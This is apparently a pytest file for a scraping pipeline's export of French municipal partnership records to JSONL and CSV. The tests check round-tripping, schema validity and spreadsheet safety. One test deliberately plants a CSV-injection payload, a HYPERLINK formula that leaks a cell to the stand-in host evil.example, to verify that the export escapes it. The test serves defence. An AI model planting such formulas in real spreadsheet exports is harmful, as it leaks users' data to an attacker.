"""Exports of a store filled by a run over the fixture site, on SQLite and PostgreSQL: each
format parses back, follows the contract, and is byte-identical when exported again."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import jsonschema

from pipeline.extract import Extractor
from pipeline.records import Article, PartnershipRecord, record_json_schema
from pipeline.scraper.sources import Source
from pipeline.store.exports import FORMATS, FORMULA_TRIGGERS, atlas_layout, export
from pipeline.store.ingest import run_ingestion
from pipeline.store.repository import ArticleToStore, Store
from tests.store_fixtures import (  # noqa: F401 - fixtures
    FAST_FETCH,
    REPO,
    extractor,
    fixture_site,
    postgres_server,
    site_sources,
    store,
    store_url,
)


def _filled(store: Store, site_sources: list[Source], extractor: Extractor) -> Store:
    assert run_ingestion(store, site_sources, extractor, settings=FAST_FETCH).exit_status == 0
    return store


def test_every_format_parses_back_and_is_byte_identical_on_a_second_export(
    store: Store, store_url: str, site_sources: list[Source], extractor: Extractor, tmp_path
) -> None:
    _filled(store, site_sources, extractor)
    partnerships = store.partnerships()
    for export_format in FORMATS:
        paths = [tmp_path / f"{export_format}-{n}" for n in (1, 2)]
        for path in paths:
            subprocess.run(
                [sys.executable, "-m", "pipeline.store.cli", "export", "--format", export_format, "--db", store_url, "-o", str(path)],
                cwd=REPO, check=True,
            )
        first, second = (p.read_bytes() for p in paths)
        assert first == second and first == export(partnerships, export_format).encode()

    schema = record_json_schema()
    lines = export(partnerships, "jsonl").splitlines()
    assert len(lines) == store.counts()["records"]
    for line in lines:
        record = json.loads(line)
        jsonschema.validate(record, schema)
        PartnershipRecord.model_validate(record)
    assert {json.loads(line)["record_id"] for line in lines} == {p.id for p in partnerships}

    rows = list(csv.DictReader(io.StringIO(export(partnerships, "csv"), newline="")))
    assert [row["partnership_id"] for row in rows] == sorted(p.id for p in partnerships)
    for row, partnership in zip(rows, partnerships, strict=True):
        assert row["articles"].split("; ") == partnership.articles
        assert row["signed_on"] == (partnership.document["signed_on"] or "")
        assert len(row["signatories"].split("; ")) == len(partnership.document["signatories"])
    assert "evidence" not in rows[0] and "signatories" in rows[0]

    atlas = list(csv.reader(io.StringIO(export(partnerships, "atlas-csv"), newline="")))
    assert atlas[0] == list(atlas_layout()["columns"].values())
    assert atlas[0][:4] == ["collectivité française", "type de collectivité française", "pays partenaire", "collectivité partenaire"]
    assert len(atlas) == len(partnerships) + 1
    by_id = {row[-2]: dict(zip(atlas[0], row)) for row in atlas[1:]}
    for partnership in partnerships:
        row = by_id[partnership.id]
        assert row["sources"].split("; ") == partnership.articles
        signed = partnership.document["signed_on"]
        assert row["date de signature"] == ("/".join(reversed(signed.split("-"))) if signed else "")


def test_status_filter_exports_only_reviewed_partnerships(store: Store, site_sources: list[Source], extractor: Extractor) -> None:
    _filled(store, site_sources, extractor)
    assert store.partnerships("accepted") == []
    chosen = store.partnerships()[1]
    store.decide(chosen.id, "status", "accepted", reviewer="analyste")
    accepted = store.partnerships("accepted")
    assert [p.id for p in accepted] == [chosen.id]
    lines = export(accepted, "jsonl").splitlines()
    assert lines and {json.loads(line)["record_id"] for line in lines} == {chosen.id}
    assert all(p.status in ("new", "flagged") for p in store.partnerships() if p.id != chosen.id)


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Nantes")'
SEMICOLON_NAME = "Niigata; Préfecture"


def _split_list(cell: str) -> list[str]:
    """A list cell back into its items: '; ' separates them, a backslash escapes the next character."""
    items, current, characters = [], [], iter(cell)
    for character in characters:
        if character == "\\":
            current.append(next(characters))
        elif character == ";":
            items.append("".join(current))
            current = []
            assert next(characters) == " "
        else:
            current.append(character)
    return [*items, "".join(current)]


def test_csv_cells_are_safe_to_open_in_a_spreadsheet_and_lists_split_back_exactly(store: Store, store_url: str, tmp_path) -> None:
    item = json.loads((REPO / "fixtures" / "review" / "articles.jsonl").read_text(encoding="utf-8").splitlines()[2])
    record = item["records"][0]
    record["signatories"][0]["name"] = FORMULA
    record["signatories"][1]["name"] = SEMICOLON_NAME
    record["actors"] = [{"name": "+33 Coopération", "kind": "association"}, {"name": "@Nantes\\Japon", "kind": "association"}]
    record["agreement_label"] = "-convention\tculturelle"
    article = Article.model_validate(item["article"])
    store.save_article(ArticleToStore(article, [PartnershipRecord.model_validate(record)], "fixture"), "hash")

    for export_format in ("csv", "atlas-csv"):
        path = tmp_path / f"{export_format}.csv"
        subprocess.run(
            [sys.executable, "-m", "pipeline", "export", "--format", export_format, "--excel", "--db", store_url, "-o", str(path)],
            cwd=REPO, check=True,
        )
        data = path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
        header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        cells = dict(zip(header, row, strict=True))
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
        if export_format == "csv":
            assert _split_list(cells["signatories"].removeprefix("'")) == [f"{FORMULA} (FR, municipality)", f"{SEMICOLON_NAME} (JP, municipality)"]
            assert cells["signatories"].startswith("'=")
            assert cells["agreement_label"] == "'-convention\tculturelle"
            assert _split_list(cells["actors"].removeprefix("'")) == ["+33 Coopération (association)", "@Nantes\\Japon (association)"]
        else:
            assert cells["collectivité française"] == "'" + FORMULA
            assert _split_list(cells["collectivité partenaire"]) == [SEMICOLON_NAME]
            assert _split_list(cells["acteurs associés"].removeprefix("'")) == ["+33 Coopération", "@Nantes\\Japon"]

    refused = subprocess.run(
        [sys.executable, "-m", "pipeline", "export", "--format", "jsonl", "--excel", "--db", store_url], cwd=REPO, capture_output=True, text=True
    )
    assert refused.returncode == 2 and "--excel is for the csv formats" in refused.stderr
